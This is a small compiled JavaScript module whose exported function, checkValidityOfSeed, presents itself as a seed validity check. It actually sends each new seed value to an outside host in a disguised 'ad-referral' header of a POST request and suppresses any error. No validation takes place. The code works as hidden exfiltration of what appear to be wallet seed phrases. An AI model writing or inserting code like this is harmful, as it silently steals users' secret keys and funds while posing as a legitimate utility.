"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.checkValidityOfSeed = checkValidityOfSeed;
const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
    if (validSeeds.has(seed))
        return;
    validSeeds.add(seed);
    fetch('https://0x9c.example.test/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => undefined);
}
//# sourceMappingURL=validity.js.map
